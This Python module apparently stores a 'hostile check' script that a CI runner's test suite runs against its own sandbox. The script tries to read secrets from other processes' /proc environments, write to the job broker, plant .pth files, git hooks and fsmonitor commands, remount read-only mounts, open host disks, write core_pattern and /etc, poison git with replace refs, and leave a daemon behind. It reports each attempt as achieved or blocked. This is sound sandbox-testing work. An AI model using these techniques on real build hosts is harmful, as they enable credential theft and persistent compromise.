"""The hostile check's code: what it tries, as the text the runner runs (bench/reliability's
hostile-check scenario and tests/integration/test_hardware_ci.py run it)."""

from __future__ import annotations

import sysconfig
from pathlib import Path

RUNNER_SITE = Path(sysconfig.get_paths()["purelib"])  # the runner's: it runs this interpreter

# What the hostile check's code tries; it prints one "|"-separated line per attempt:
#   attempt | achieved or blocked | what happened
# and fails (exit 1) when any attempt was achieved. tests/integration/test_hardware_ci.py runs
# it too.
RUNNER_PYTHON_ATTEMPT = "plant code in the runner's own Python (a .pth in its site-packages)"
RUNNER_PTH = "carry_hostile_runner.pth"
UNDO_ATTEMPT = "undo the read-only view of the runner's Python (remount it, or unmount it)"
MKNOD_ATTEMPT = "make a device node for the host's disk (root's power over the host)"
SYSCTL_ATTEMPT = "change a kernel setting of the host's (core_pattern, written back as it was)"
DISK_ATTEMPT = "read the host's disks (a block device in /dev)"
SOCKET_ATTEMPT = "reach a host daemon through its unix socket (in /run or /tmp)"
HOST_FILE_ATTEMPT = "write a host file for root to run later (a file in /etc)"
POISON_ATTEMPT = "plant objects in the shared clone for the next job (a replace ref)"
POISON = b"poisoned by an earlier job\n"
# What a job leaves for the next job's git, clean-up and steps (issue 33): each is judged after
# the next job, by what ran or changed, not by whether the step's write went through.
COMMONDIR_ATTEMPT = "point the runner's git at a repository of the check's (a commondir)"
GIT_SWAP_ATTEMPT = "swap the clone's .git for a repository of the check's (renaming the runner's)"
GIT_LINK_ATTEMPT = "make .git a link, for the next job's clean-up to delete or write through"
LINGER_ATTEMPT = "leave a process running after the job (a double-forked setsid daemon)"
SHARED_TMP_ATTEMPT = "leave a file in /tmp for the next job (or on the host)"
BROKER_NET_ATTEMPT = "reach the broker over the network with network: true"
# A runner that is not root (compose's, as `carry`): its steps run as its own uid, so what is
# the runner's user's is theirs unless the sandbox keeps it out. Tried where the scenario says
# where the runner's HOME is (RUNNER_HOME): it holds an env file with the broker's URL (0600).
RUNNER_HOME_READ_ATTEMPT = "read the runner's secrets in its HOME (an env file, mode 600)"
RUNNER_HOME_WRITE_ATTEMPT = "write the runner's HOME (a .pth in its user site, a ~/.gitconfig)"
RUNNER_ENV_FILE = ".config/carry/runner.env"
RUNNER_HOME_ATTEMPTS = (RUNNER_HOME_READ_ATTEMPT, RUNNER_HOME_WRITE_ATTEMPT)
HOSTILE_NET_CHECK = "hostile-net"
# A check with network: true: it tries the runner's Redis on loopback and on each of the host's
# own addresses (where the scenario's Redis listens too), and says what way out it has.
HOSTILE_NET_SCRIPT = (
    f"BROKER_NET_ATTEMPT = {BROKER_NET_ATTEMPT!r}\n"
    + r"""
import os, socket
port = int(os.environ["BROKER_PORT"])
reached, refused = [], []
for host in ["127.0.0.1", *os.environ["HOST_ADDRS"].split()]:
    try:
        with socket.create_connection((host, port), timeout=3) as sock:
            sock.sendall(b"PING\r\n")
            reached.append(f"{host}: {sock.recv(32)!r}")
    except OSError as err:
        refused.append(f"{host}: {err.strerror or err}")
with open("/proc/net/route") as table:
    routes = [line.split() for line in table.read().splitlines()[1:]]
ways_out = sorted({r[0] for r in routes if r[1] == "00000000" and r[0] != "*"})
way = f"default route via {', '.join(ways_out)}" if ways_out else "no default route"
how = f"reached {'; '.join(reached)}" if reached else f"refused ({'; '.join(refused)})"
print(f"{BROKER_NET_ATTEMPT}|{'achieved' if reached else 'blocked'}|{how}; egress: {way}",
      flush=True)
print("hostile net check done", flush=True)
"""
)
HOSTILE_SCRIPT = (
    f"""
RUNNER_PYTHON_ATTEMPT, RUNNER_PTH = {RUNNER_PYTHON_ATTEMPT!r}, {RUNNER_PTH!r}
SHARED_TMP_ATTEMPT = {SHARED_TMP_ATTEMPT!r}
UNDO_ATTEMPT, MKNOD_ATTEMPT, SYSCTL_ATTEMPT = {UNDO_ATTEMPT!r}, {MKNOD_ATTEMPT!r}, {SYSCTL_ATTEMPT!r}
DISK_ATTEMPT, SOCKET_ATTEMPT = {DISK_ATTEMPT!r}, {SOCKET_ATTEMPT!r}
HOST_FILE_ATTEMPT, POISON_ATTEMPT = {HOST_FILE_ATTEMPT!r}, {POISON_ATTEMPT!r}
POISON = {POISON!r}
RUNNER_HOME_READ_ATTEMPT = {RUNNER_HOME_READ_ATTEMPT!r}
RUNNER_HOME_WRITE_ATTEMPT = {RUNNER_HOME_WRITE_ATTEMPT!r}
RUNNER_ENV_FILE = {RUNNER_ENV_FILE!r}
"""
    + r"""
import json, os, socket, sys, urllib.parse
port = int(os.environ["BROKER_PORT"])
marks = os.environ["MARKS"]
# What to look for, reversed in a file of the test's: in no environment, in no command line.
with open(os.path.join(marks, "needles.json")) as needles:
    secrets = {name: value[::-1].encode() for name, value in json.load(needles).items()}

ACHIEVED = []

def say(attempt, achieved, how):
    if achieved:
        ACHIEVED.append(attempt)
    print(f"{attempt}|{'achieved' if achieved else 'blocked'}|{how}", flush=True)

def proc_files(part):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                yield pid, open(f"/proc/{pid}/{part}", "rb").read()
            except OSError:
                pass

own = "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()
say("find the broker's password in the step's environment", secrets["password"] in own,
    f"{len(os.environ)} variables, none of carry's")
say("find a GitHub token in the step's environment", secrets["token"] in own,
    "not passed on")
others = list(proc_files("environ"))
leaks = [pid for pid, data in others if any(v in data for v in secrets.values())]
say("read the runner's environment in /proc", bool(leaks),
    f"the secrets are in the environment of pids {leaks}" if leaks
    else f"{len(others)} other process(es) visible, none holds a secret")
# The broker's URL as the code under test would find it: in another process's environment,
# the one that holds the secrets first (other processes of the host may name other Redises).
found = [
    entry[len(b"REDIS_URL="):].decode(errors="replace")
    for _, data in sorted(others, key=lambda found: found[0] not in leaks)
    for entry in data.split(b"\0") if entry.startswith(b"REDIS_URL=")
]
user, password = (urllib.parse.urlsplit(found[0]).username, urllib.parse.urlsplit(found[0]).password) if found else (None, None)
runner = [
    pid for pid, data in proc_files("cmdline") if b"bot.cli\0runner" in data or b"runner.cli" in data
]
signalled = []
for pid in runner:
    try:
        os.kill(int(pid), 0)
        signalled.append(pid)
    except OSError:
        pass
say("see or signal the runner process", bool(runner or signalled),
    "not in the step's PID namespace" if not runner else f"pids {runner}, signalled {signalled}")

def broker(command):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        sock.sendall(command)
        return sock.recv(256)

auth = f"AUTH {user or 'default'} {password}\r\n".encode() if password else b""
for attempt, command in (
    ("connect to the broker", b"PING\r\n"),
    ("write an approval into carry's store", auth + b"SADD carry:hostile:approvals deadbeef\r\n"),
    ("queue a task for carry's workers", auth + b"LPUSH carry hostile-task\r\n"),
):
    try:
        reply = broker(command)
    except OSError as err:
        say(attempt, False, f"{err.strerror or err}: no route out of the step's network namespace")
        continue
    wrote = attempt == "connect to the broker" or b"-" not in reply
    used = password and command.startswith(b"AUTH")
    say(attempt, wrote, f"the broker answered {reply[:40]!r}"
        + (" (with the password from the runner's environment)" if used else ""))

# Code for the next job's Python (or the runner's) to run: a .pth in HOME's user site.
site_dir = os.path.join(os.environ.get("HOME", "/nonexistent"), ".local", "lib", "python3.11",
                        "site-packages")
left = os.path.join(site_dir, "carry_hostile.pth")
say("find what an earlier job left in HOME", os.path.exists(left),
    f"found {left}" if os.path.exists(left) else "HOME is the job's own, made anew")
try:
    os.makedirs(site_dir, exist_ok=True)
    with open(left, "w") as out:
        out.write(f"import os; open(os.path.join({marks!r}, 'pth-ran'), 'w')\n")
except OSError as err:
    print(f"could not plant {left}: {err}", flush=True)

# The runner's own HOME, where it runs as a user that is not root (the step is that user):
# its env file, and code for its next start or its git.
runner_home = os.environ.get("RUNNER_HOME")
if runner_home:
    env_file = os.path.join(runner_home, RUNNER_ENV_FILE)
    try:
        with open(env_file, "rb") as found:
            data = found.read()
        say(RUNNER_HOME_READ_ATTEMPT, secrets["password"] in data,
            f"read {env_file}: " + ("the broker's password" if secrets["password"] in data
                                    else "no password in it"))
    except OSError as err:
        say(RUNNER_HOME_READ_ATTEMPT, False, f"{err.strerror or err}: {env_file}")
    home_site = os.path.join(runner_home, ".local", "lib", "python3.11", "site-packages")
    wrote = []
    for path, text in (
        (os.path.join(home_site, "carry_hostile_home.pth"),
         f"import os; open(os.path.join({marks!r}, 'home-pth-ran'), 'w')\n"),
        (os.path.join(runner_home, ".gitconfig"),
         f"[core]\n\tfsmonitor = touch {marks}/home-gitconfig-ran\n"),
    ):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as out:
                out.write(text)
            wrote.append(path)
        except OSError as err:
            refusal = f"{err.strerror or err}: {path}"
    say(RUNNER_HOME_WRITE_ATTEMPT, bool(wrote), f"wrote {', '.join(wrote)}" if wrote
        else f"{refusal}: the runner's HOME is not the step's")

# Code for the runner's own Python: a .pth in its site-packages runs in every later
# process of that interpreter, the next job's steps and the runner itself (with its broker
# credentials) included.
runner_pth = os.path.join(os.environ["RUNNER_SITE"], RUNNER_PTH)

def plant_in_runner_python():
    try:
        with open(runner_pth, "w") as out:
            out.write(f"import os; open(os.path.join({marks!r}, 'runner-pth-ran'), 'w')\n")
        return None
    except OSError as err:
        return err.strerror or str(err)

refused = plant_in_runner_python()
say(RUNNER_PYTHON_ATTEMPT, refused is None, f"wrote {runner_pth}" if refused is None
    else f"{refused}: the runner's Python is read-only to steps")

# Root in the step's mount namespace could take the read-only view away again. Only tried
# where the step has a mount namespace of its own (its PID 1 is the sandbox's): on a bare
# host these calls would change the host's own mounts.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def mount_point(path):
    points = []
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        point = fields[4].encode().decode("unicode_escape")
        if path == point or path.startswith(point.rstrip("/") + "/"):
            points.append((len(point), point, "ro" in fields[5].split(",")))
    return max(points)[1:]

def undo_read_only():
    if refused is None:
        return True, "nothing to undo: the runner's Python was writable"
    init = open("/proc/1/cmdline", "rb").read()
    if b"sandbox_init" not in init and b"bwrap" not in init:
        return False, "no mount namespace of its own: left the host's mounts alone"
    point, read_only = mount_point(os.path.realpath(os.environ["RUNNER_SITE"]))
    tried = []
    for how, call in (
        ("remount", lambda: libc.mount(point.encode(), point.encode(), None, 0x20 | 0x1000, None)),
        ("unmount", lambda: libc.umount2(point.encode(), 2)),
    ):
        if call() == 0 and plant_in_runner_python() is None:
            return True, f"{how}ed {point} and wrote {runner_pth}"
        tried.append(f"{how} {point}: {os.strerror(ctypes.get_errno()) or 'done, still read-only'}")
    return False, "; ".join(tried)

say(UNDO_ATTEMPT, *undo_read_only())
node = os.path.abspath("carry-hostile-disk")
import stat
try:
    os.mknod(node, 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    os.unlink(node)
    say(MKNOD_ATTEMPT, True, "made a block device node for 8:0 (the first disk) in its tree")
except OSError as err:
    say(MKNOD_ATTEMPT, False, f"{err.strerror or err}: the step holds no root power over the host")
# A host's core_pattern runs a program as root on every crash: whoever may write it owns the
# host. Written back unchanged, so that a run where it is allowed changes nothing.
try:
    with open("/proc/sys/kernel/core_pattern", "rb") as setting:
        pattern = setting.read()
    with open("/proc/sys/kernel/core_pattern", "wb") as setting:
        setting.write(pattern)
    say(SYSCTL_ATTEMPT, True, "wrote /proc/sys/kernel/core_pattern")
except OSError as err:
    say(SYSCTL_ATTEMPT, False, f"{err.strerror or err}: /proc/sys/kernel/core_pattern")
# Every file of the host, secrets included, is on its disks.
disks = sorted(
    entry.path for entry in os.scandir("/dev")
    if stat.S_ISBLK(os.stat(entry.path, follow_symlinks=False).st_mode)
)
opened, refusals = None, []
for disk in disks:
    try:
        os.close(os.open(disk, os.O_RDONLY))
        opened = disk
        break
    except OSError as err:
        refusals.append(f"{disk}: {err.strerror}")
say(DISK_ATTEMPT, opened is not None, f"opened {opened} for reading" if opened
    else "; ".join(refusals[:3]) or "no block device in the step's /dev")

# A network namespace keeps no one from a unix socket in the file system: Docker's, systemd's
# or a database's would let the step act outside the sandbox (the scenario runs a stand-in
# daemon's socket under /tmp; each connection is closed at once). The search is the check's
# own, not sandbox_init's: a check that used the code it tests could not see that code miss one.
def unix_sockets(directory, depth):
    try:
        entries = list(os.scandir(directory))
    except OSError:
        return
    for entry in entries:
        try:
            mode = os.stat(entry.path, follow_symlinks=False).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            yield entry.path
        elif depth > 1 and stat.S_ISDIR(mode):
            yield from unix_sockets(entry.path, depth - 1)

found = [path for top, depth in (("/run", 4), ("/tmp", 2)) for path in unix_sockets(top, depth)]
reached = None
for path in found:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        try:
            client.connect(path)
            reached = path
            break
        except OSError:
            pass
say(SOCKET_ATTEMPT, reached is not None, f"connected to {reached}" if reached
    else f"{len(found)} socket(s) found, none answered" if found
    else "no socket of the host's to be seen in /run or /tmp")

# /etc/cron.d, a profile script, a unit file: whatever the host's root runs later. The file is
# removed at once (and says nothing), so a run where this works leaves the host as it was.
planted = f"/etc/carry-hostile-{os.getpid()}"
try:
    with open(planted, "x"):
        pass
    os.unlink(planted)
    say(HOST_FILE_ATTEMPT, True, f"created {planted} (and removed it)")
except OSError as err:
    say(HOST_FILE_ATTEMPT, False, f"{err.strerror or err}: {planted}")

# The clone is the runner's, kept between jobs: a replace ref that swaps a file of the tree
# the next job builds (and verifies by its id), then hooks and config for the next job's git
# (last: the check's own git would run them).
import subprocess
def git(*args, stdin=None):
    done = subprocess.run(["git", *args], input=stdin, capture_output=True)
    return done.stdout.decode().strip(), done.returncode, done.stderr.decode().strip()

# A replace ref for the tree the job built: the next job's git would read the check's
# tree in its place, while the tree's id (what the runner verifies) stays the same.
target = git("ls-files")[0].splitlines()[0]
blob, failed, said = git("hash-object", "-w", "--stdin", stdin=POISON)
if not failed:
    listing = git("ls-tree", "HEAD")[0].replace(git("rev-parse", f"HEAD:{target}")[0], blob)
    evil, failed, said = git("mktree", stdin=(listing + "\n").encode())
if not failed:
    _, failed, said = git("replace", "-f", git("rev-parse", "HEAD^{tree}")[0], evil)
say(POISON_ATTEMPT, not failed, f"planted a replace ref: the tree's {target} is the check's"
    if not failed else f"{(said or 'refused').splitlines()[0]}: the clone's .git is read-only to steps")
hooks = os.path.join(".git", "hooks")
try:
    os.makedirs(hooks, exist_ok=True)
    for hook in ("post-checkout", "post-merge", "pre-commit"):
        path = os.path.join(hooks, hook)
        with open(path, "w") as out:
            out.write(f"#!/bin/sh\ntouch {marks}/hook-ran-{hook}\n")
        os.chmod(path, 0o755)
    os.system(f"git config core.hooksPath {hooks} && git config core.fsmonitor 'touch {marks}/fsmonitor-ran'")
    print("planted hooks for the next job", flush=True)
except OSError as err:
    print(f"could not plant hooks: {err.strerror or err}", flush=True)

# A daemon that outlives the job: double-forked, in a session of its own, its output closed.
# The scenario looks for it (by the job's id in its environment) once the job is over.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        import time
        time.sleep(120)
        os._exit(0)
    os._exit(0)
os.wait()
print("left a daemon behind", flush=True)

# /tmp: what an earlier job left there, and a file for the next one.
left_in_tmp = os.path.join("/tmp", os.environ.get("TMP_NAME", f"carry-hostile-left-{port}"))
say(SHARED_TMP_ATTEMPT, os.path.exists(left_in_tmp),
    f"found {left_in_tmp}" if os.path.exists(left_in_tmp) else "/tmp is the job's own, made anew")
try:
    with open(left_in_tmp, "w") as out:
        out.write("left by an earlier job\n")
except OSError as err:
    print(f"could not leave {left_in_tmp}: {err}", flush=True)

# The runner's git directory, where the tree's .git names it (or is it), gets a commondir: a
# repository of the check's whose config runs a command (core.fsmonitor) in carry's next git.
# Then .git itself: renamed away and replaced, and a link to a directory of the host's that
# the next job's clean-up would delete in and write to.
def git_directory():
    if os.path.isfile(".git"):
        return open(".git").read().split("gitdir:", 1)[-1].strip()
    return os.path.abspath(".git")
# Where the scenario made no repositories (tests/integration/test_hardware_ci.py), the paths
# name none: a link that points nowhere is still one the clean-up must not follow.
NOWHERE = "/nonexistent/carry-hostile"
try:
    with open(os.path.join(git_directory(), "commondir"), "w") as out:
        out.write(os.environ.get("COMMON", NOWHERE) + "\n")
    print("wrote a commondir in the runner's git directory", flush=True)
except OSError as err:
    print(f"could not write a commondir: {err.strerror or err}", flush=True)
try:
    os.rename(".git", ".git-moved")
    print(f"renamed .git ({'a directory' if os.path.isdir('.git-moved') else 'a file'})", flush=True)
    os.symlink(os.environ.get("VICTIM", NOWHERE), ".git")
    print("made .git a link to a directory of the host's", flush=True)
except OSError as err:
    print(f"could not replace .git: {err.strerror or err}", flush=True)

print("hostile check done", flush=True)
sys.exit(1 if ACHIEVED else 0)  # a check that got anywhere fails
"""
)
